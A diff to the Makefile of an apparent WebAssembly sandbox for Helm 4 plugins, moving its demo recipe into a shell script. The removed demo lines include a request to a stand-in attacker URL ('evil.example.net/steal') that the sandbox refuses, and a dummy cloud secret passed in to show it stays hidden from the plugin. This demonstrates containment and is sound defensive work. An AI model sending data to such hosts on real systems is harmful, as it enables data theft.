@@ -105,44 +105,20 @@ demo: deps $(BUILD)/wasmguard $(BUILD)/examples/fib.wasm $(BUILD)/examples/sandb
 	@rm -rf $(DEMO_TMP)
 	@$(MAKE) -s demo-helm
 
-# The main job: Helm 4 plugins (examples/helm) installed into a temporary
-# HELM_PLUGINS, each invocation in a fresh sandbox, every grant and denial
-# in the audit trail.
-DEMO_PLUGINS := $(BUILD)/demo/plugins
-DEMO_AUDIT   := $(BUILD)/demo/audit.log
-DEMO_HELM    := hello:hello fetch:fetch add-label:add_label demo-getter:demo_getter
+# The main job (scripts/demo_helm.sh): Helm 4 plugins (examples/helm)
+# signed, verified and installed with consent into a temporary
+# HELM_PLUGINS, each invocation in a fresh sandbox, every grant and
+# denial in the audit trail.
+DEMO_DIR  := $(BUILD)/demo
+DEMO_HELM := hello fetch add_label demo_getter
 
 $(BUILD)/examples/helm/%.wasm: examples/helm/%.c examples/helm/helm_json.h $(PDK_H)
 	@mkdir -p $(dir $@)
 	$(PLUGIN_CC) $(PLUGIN_CFLAGS) -Iexamples/helm -o $@ $<
 
 .PHONY: demo-helm
-demo-helm: $(BUILD)/wasmguard $(foreach p,$(DEMO_HELM),$(BUILD)/examples/helm/$(word 2,$(subst :, ,$(p))).wasm)
-	@rm -rf $(DEMO_PLUGINS) $(DEMO_AUDIT) && mkdir -p $(DEMO_PLUGINS)
-	@for p in $(DEMO_HELM); do d=$${p%%:*}; c=$${p##*:}; mkdir -p $(DEMO_PLUGINS)/$$d; \
-	    cp examples/helm/$$d/plugin.yaml $(DEMO_PLUGINS)/$$d/; \
-	    cp $(BUILD)/examples/helm/$$c.wasm $(DEMO_PLUGINS)/$$d/plugin.wasm; done
-	@echo
-	@echo "== Helm 4 plugins (examples/helm), installed into HELM_PLUGINS=$(DEMO_PLUGINS)"
-	HELM_PLUGINS=$(DEMO_PLUGINS) $(BUILD)/wasmguard plugin list
-	@echo
-	@echo "== a cli/v1 plugin: the host's environment (HOME, a cloud secret) never reaches it"
-	AWS_SECRET_ACCESS_KEY=hunter2 HELM_PLUGINS=$(DEMO_PLUGINS) \
-	    $(BUILD)/wasmguard plugin run --audit $(DEMO_AUDIT) hello world
-	@echo
-	@echo "== a postrenderer/v1 plugin: manifests in on stdin, out on stdout"
-	printf 'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: demo\n' | \
-	    HELM_PLUGINS=$(DEMO_PLUGINS) $(BUILD)/wasmguard post-render --audit $(DEMO_AUDIT) add-label prod
-	@echo
-	@echo "== a getter/v1 plugin, chosen by the URL's scheme"
-	HELM_PLUGINS=$(DEMO_PLUGINS) $(BUILD)/wasmguard get --audit $(DEMO_AUDIT) demo://charts/mychart-0.1.0.tgz
-	@echo
-	@echo "== a plugin allowed only charts.example.com asks for another host: refused"
-	-HELM_PLUGINS=$(DEMO_PLUGINS) $(BUILD)/wasmguard plugin run --audit $(DEMO_AUDIT) fetch https://evil.example.net/steal
-	@echo
-	@echo "== the audit trail ($(DEMO_AUDIT)) holds every grant and every denial,"
-	@echo "   $$(wc -l < $(DEMO_AUDIT)) events; the requests, and what each plugin was denied:"
-	@grep -E '"kind":"http"|"allowed":false' $(DEMO_AUDIT) | grep -v createTempDir
+demo-helm: $(BUILD)/wasmguard $(DEMO_HELM:%=$(BUILD)/examples/helm/%.wasm)
+	@bash scripts/demo_helm.sh $(BUILD)/wasmguard $(BUILD)/examples/helm $(DEMO_DIR)
 
 deps:
 	@bash scripts/deps.sh
@@ -175,6 +151,6 @@ install: $(LIB) $(LIB_SO) $(BUILD)/wasmguard
 clean:
 	rm -rf $(BUILD)
 
--include $(shell find $(BUILD) -name '*.d' 2>/dev/null)
+-include $(shell find $(BUILD) -name '*.d' -type f 2>/dev/null)
 .PHONY: check-build
 check-build:
